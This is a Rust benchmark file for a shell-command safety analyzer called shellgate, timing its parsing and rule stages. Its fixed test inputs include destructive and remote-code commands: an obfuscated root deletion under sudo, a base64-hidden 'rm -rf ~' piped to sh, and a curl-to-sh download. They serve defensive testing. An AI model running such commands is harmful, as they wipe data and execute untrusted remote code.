//! Criterion benchmarks (docs/PERFORMANCE.md reads their figures):
//! - `fixed`: representative single commands;
//! - `corpus/<file>`: every command of a shared corpus under `analyze` and under the bare
//!   tree-sitter parse, in one group, so the ratio comes from one run;
//! - `stages`: normalize, parse, lower, graph and rules separately over the same commands;
//! - `scaling/<shape>`: generated 1 KB … 1 MB scripts (10 MB with `SHELLGATE_BENCH_10MB=1`).
//!
//! The corpora are read from `../shared/corpora` (or `$SHELLGATE_SHARED/corpora`); when absent
//! the corpus groups say so and are skipped, and `stages` runs over the fixed commands.
//! Under `cargo test --all-targets` (no `--bench` argument) every input is cut small, since
//! criterion then runs each benchmark once only to check it works.

mod support;

use std::hint::black_box;
use std::time::Duration;

use criterion::{BatchSize, Criterion, Throughput, criterion_group, criterion_main};
use shellgate::{Context, analyze, graph, model, normalize, rules, syntax};

const FIXED: &[(&str, &str)] = &[
    ("simple", "ls -la /tmp"),
    (
        "pipeline",
        "find . -name '*.rs' | xargs grep -n TODO | sort | uniq -c",
    ),
    ("obfuscated_delete", "X=/; sudo bash -c \"r\\m -rf $X\""),
    ("decoded_payload", "echo cm0gLXJmIH4= | base64 -d | sh"),
    (
        "remote_code",
        "curl -s https://example.com/i.sh | tee /tmp/i.sh | sh",
    ),
    (
        "heredoc_python",
        "python3 - <<'EOF'\nimport json, sys\nprint(json.load(sys.stdin)['x'])\nEOF",
    ),
];

/// `cargo bench` passes `--bench`; `cargo test` does not, and then inputs are cut small.
fn benchmarking() -> bool {
    std::env::args().any(|a| a == "--bench")
}

fn fixed(c: &mut Criterion) {
    let ctx = Context::fixture();
    let mut g = c.benchmark_group("fixed");
    for (name, cmd) in FIXED {
        g.bench_function(*name, |b| b.iter(|| analyze(black_box(cmd), &ctx)));
    }
    g.finish();
}

fn corpora(c: &mut Criterion) {
    let ctx = Context::fixture();
    let limit = if benchmarking() { usize::MAX } else { 200 };
    for file in ["tldr.jsonl", "nl2bash.jsonl"] {
        let cmds = support::corpus(file, limit);
        if cmds.is_empty() {
            continue;
        }
        let mut g = c.benchmark_group(format!("corpus/{file}"));
        g.throughput(Throughput::Elements(cmds.len() as u64));
        g.sample_size(10);
        g.warm_up_time(Duration::from_secs(1));
        g.measurement_time(Duration::from_secs(8));
        g.bench_function("bare_parse", |b| {
            b.iter(|| {
                for cmd in &cmds {
                    black_box(syntax::parse_floor(cmd).ok());
                }
            })
        });
        g.bench_function("analyze", |b| {
            b.iter(|| {
                for cmd in &cmds {
                    black_box(analyze(cmd, &ctx));
                }
            })
        });
        // The same with tree-sitter for every command: what the plain-word fast path buys.
        g.bench_function("analyze_tree_sitter_only", |b| {
            syntax::set_plain_lexer(false);
            b.iter(|| {
                for cmd in &cmds {
                    black_box(analyze(cmd, &ctx));
                }
            });
            syntax::set_plain_lexer(true);
        });
        g.finish();
    }
}

/// One command's intermediate results, so each stage can be timed alone.
struct Staged {
    norm: normalize::Normalized,
    tree: syntax::Tree,
    script: model::Script,
    flow: graph::Flow,
}

fn lower(norm: &normalize::Normalized, tree: syntax::Tree, ctx: &Context) -> model::Script {
    let mut env = model::Env::new(ctx.env.clone(), ctx.cwd.clone(), ctx.home.clone());
    env.home = ctx.home.clone();
    model::lower_script(norm, tree, env, ctx.user.clone(), ctx.limits)
}

fn stages(c: &mut Criterion) {
    let ctx = Context::fixture();
    let limit = if benchmarking() { 4000 } else { 100 };
    let mut cmds = support::corpus("tldr.jsonl", limit);
    if cmds.is_empty() {
        cmds = FIXED.iter().map(|(_, c)| c.to_string()).collect();
    }
    let staged: Vec<Staged> = cmds
        .iter()
        .filter(|c| c.len() <= shellgate::MAX_COMMAND_BYTES)
        .filter_map(|c| {
            let norm = normalize::normalize(c);
            let tree = syntax::parse(&norm.text).ok()?;
            let script = lower(&norm, tree.clone(), &ctx);
            let flow = graph::build(&script);
            Some(Staged {
                norm,
                tree,
                script,
                flow,
            })
        })
        .collect();
    let mut g = c.benchmark_group("stages");
    g.throughput(Throughput::Elements(staged.len() as u64));
    g.sample_size(10);
    g.warm_up_time(Duration::from_secs(1));
    g.measurement_time(Duration::from_secs(3));
    g.bench_function("normalize", |b| {
        b.iter(|| {
            for c in &cmds {
                black_box(normalize::normalize(c));
            }
        })
    });
    g.bench_function("bare_parse", |b| {
        b.iter(|| {
            for s in &staged {
                black_box(syntax::parse_floor(&s.norm.text).ok());
            }
        })
    });
    g.bench_function("parse", |b| {
        b.iter(|| {
            for s in &staged {
                black_box(syntax::parse(&s.norm.text).ok());
            }
        })
    });
    g.bench_function("lower", |b| {
        b.iter_batched(
            || staged.iter().map(|s| s.tree.clone()).collect::<Vec<_>>(),
            |trees| {
                for (s, t) in staged.iter().zip(trees) {
                    black_box(lower(&s.norm, t, &ctx));
                }
            },
            BatchSize::LargeInput,
        )
    });
    g.bench_function("graph", |b| {
        b.iter(|| {
            for s in &staged {
                black_box(graph::build(&s.script));
            }
        })
    });
    g.bench_function("rules", |b| {
        b.iter(|| {
            for s in &staged {
                black_box(rules::run(&rules::Cx {
                    script: &s.script,
                    flow: &s.flow,
                    ctx: &ctx,
                    normalized: &s.norm,
                    original: &s.norm.text,
                }));
            }
        })
    });
    g.finish();
}

fn scaling(c: &mut Criterion) {
    let ctx = Context::fixture();
    let max = if !benchmarking() {
        10_000
    } else if std::env::var_os("SHELLGATE_BENCH_10MB").is_some() {
        usize::MAX
    } else {
        1_000_000
    };
    for shape in support::SHAPES {
        let mut g = c.benchmark_group(format!("scaling/{shape}"));
        g.sample_size(10);
        g.warm_up_time(Duration::from_millis(500));
        g.measurement_time(Duration::from_secs(2));
        for (label, bytes) in support::SIZES.iter().filter(|(_, b)| *b <= max) {
            let s = support::script(shape, *bytes);
            g.throughput(Throughput::Bytes(s.len() as u64));
            g.bench_function(format!("bare_parse/{label}"), |b| {
                b.iter(|| black_box(syntax::parse_floor(&s).ok()))
            });
            g.bench_function(format!("analyze/{label}"), |b| {
                b.iter(|| black_box(analyze(&s, &ctx)))
            });
        }
        g.finish();
    }
}

criterion_group!(benches, fixed, corpora, stages, scaling);
criterion_main!(benches);
